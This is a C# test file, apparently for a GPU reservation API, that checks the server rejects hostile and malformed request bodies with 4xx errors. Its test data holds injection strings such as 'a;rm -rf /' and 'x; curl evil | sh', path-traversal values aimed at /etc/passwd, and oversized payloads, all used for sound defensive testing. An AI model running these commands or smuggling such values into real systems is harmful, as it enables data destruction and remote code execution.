using System.Net;
using System.Net.Http.Json;
using System.Text;
using GpuDev.Contracts;

namespace GpuDev.Server.Tests.Security;

/// <summary>Hostile and malformed input: always a 4xx ProblemDetails, never a 5xx, and nothing is created or changed.</summary>
public sealed class BadInputTests
{
    public static TheoryData<string> BadCreateBodies() =>
    [
        "", "{", "[]", "null", "true", "\"h100\"", "{\"gpuType\": 5, \"hours\": 1}",
        "{\"gpuType\": \"h100\", \"gpuCount\": \"8\", \"hours\": 1}",
        "{\"gpuType\": \"h100\", \"hours\": \"x\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1e309}",
        "{\"gpuType\": \"h100\", \"hours\": -1}",
        "{\"gpuType\": \"h100\", \"gpuCount\": 2147483648, \"hours\": 1}",
        "{\"gpuType\": \"h100\", \"gpuCount\": -2147483648, \"hours\": 1}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"jupyter\": \"yes\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"nodeLabels\": [1, 2]}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"nodeLabels\": {\"a;rm -rf /\": \"x\"}}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"name\": \"a;rm -rf /\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"name\": \"../../etc\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"name\": \"line\\nbreak\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"name\": \"\\u202eevil\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"name\": \"名前\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"disk\": \"../../etc/passwd\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"dockerImage\": \"x; curl evil | sh\"}",
        "{\"gpuType\": \"" + new string('h', 100_000) + "\", \"hours\": 1}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"name\": \"" + new string('a', 10_000) + "\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"dockerfile\": \"" + new string('R', 600 * 1024) + "\"}",
        "{\"gpuType\": \"h100\", \"hours\": 1, \"nodeLabels\": {\"k\": \"" + new string('v', 2_000_000) + "\"}}",
    ];

    [Theory]
    [MemberData(nameof(BadCreateBodies))]
    public async Task Create_BadBody_4xxProblemAndNothingCreated(string body)
    {
        await using var server = new ServerFixture();
        var client = await server.ClientForAsync("alice");

        var response = await client.PostAsync(Routes.Reservations, new StringContent(body, Encoding.UTF8, "application/json"));

        await AssertProblem4xxAsync(response);
        Assert.Empty(await server.Store.ListReservationsAsync(new(), CancellationToken.None));
    }

    [Theory]
    [InlineData("?status=weird")]
    [InlineData("?status=%00")]
    [InlineData("?all=maybe")]
    [InlineData("/..%2F..%2Fetc%2Fpasswd")]
    [InlineData("/abcd%0Aef")]
    [InlineData("/zz")]
    [InlineData("/ABCDEFGHIJKLMNOP")]
    public async Task Read_BadQueryOrId_4xxProblem(string suffix)
    {
        await using var server = new ServerFixture();
        var client = await server.ClientForAsync("alice");

        var response = await client.GetAsync(Routes.Reservations + suffix);

        await AssertProblem4xxAsync(response);
    }

    [Theory]
    [InlineData("{\"extendHours\": \"x\"}")]
    [InlineData("{\"extendHours\": -5}")]
    [InlineData("{\"extendHours\": 1e309}")]
    [InlineData("{\"addUsers\": [\"a;rm -rf /\"]}")]
    [InlineData("{\"addUsers\": [\"../../etc\"]}")]
    [InlineData("{\"addUsers\": [\"x\\ny\"]}")]
    [InlineData("{\"addUsers\": \"bob\"}")]
    [InlineData("{\"jupyter\": \"on\"}")]
    [InlineData("{}")]
    [InlineData("[")]
    public async Task Edit_BadBody_4xxProblemAndNothingChanges(string body)
    {
        await using var server = new ServerFixture();
        var client = await server.ClientForAsync("alice");
        var created = (await (await client.PostAsJsonAsync(Routes.Reservations, new CreateReservationRequest { GpuType = "h100", GpuCount = 1, Hours = 1 },
            GpuDevJsonContext.Default.CreateReservationRequest)).Content.ReadFromJsonAsync(GpuDevJsonContext.Default.ReservationDto))!;
        var active = await ServerFixture.WaitForStatusAsync(client, created.Id, "active");

        var response = await client.PatchAsync(Routes.Reservation(created.Id), new StringContent(body, Encoding.UTF8, "application/json"));

        await AssertProblem4xxAsync(response);
        var after = await client.GetFromJsonAsync(Routes.Reservation(created.Id), GpuDevJsonContext.Default.ReservationDto);
        Assert.Equal(active.ExpiresAt, after!.ExpiresAt);
        Assert.Empty(after.AddedUsers);
        Assert.False(after.Jupyter);
    }

    /// <summary>Seeded random mutations of a valid body: never a 5xx; anything accepted is a valid reservation.</summary>
    [Fact]
    public async Task Create_RandomMutations_Never5xx()
    {
        await using var server = new ServerFixture();
        var client = await server.ClientForAsync("alice");
        var random = new Random(7);
        string[] values = ["null", "0", "-1", "1.5", "1e400", "\"\"", "\"h100\"", "\"cpu-x86\"", "true", "[]", "{}", "\"\\u0000\"", "\"" + new string('x', 300) + "\"", "99999999999999999999"];
        string[] fields = ["gpuType", "gpuCount", "hours", "name", "jupyter", "disk", "noPersist", "distributed", "dockerImage", "nodeLabels", "unknownField"];
        var accepted = 0;

        for (var i = 0; i < 300; i++)
        {
            var parts = fields.Where(_ => random.Next(3) > 0).Select(f => $"\"{f}\": {values[random.Next(values.Length)]}");
            var body = "{" + string.Join(", ", parts) + "}";
            var response = await client.PostAsync(Routes.Reservations, new StringContent(body, Encoding.UTF8, "application/json"));
            Assert.True((int)response.StatusCode < 500, $"{body} -> {(int)response.StatusCode}");
            accepted += response.IsSuccessStatusCode ? 1 : 0;
        }

        var stored = await server.Store.ListReservationsAsync(new(), CancellationToken.None);
        Assert.Equal(accepted, stored.Count);
        Assert.All(stored, r => Assert.True(r.GpuType is "h100" or "cpu-x86" && r.Hours is >= 0.0833 and <= 24, $"{r.GpuType} {r.Hours}"));
    }

    private static async Task AssertProblem4xxAsync(HttpResponseMessage response)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True((int)response.StatusCode is >= 400 and < 500, $"{(int)response.StatusCode}: {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("\"code\"", body, StringComparison.Ordinal);
    }
}
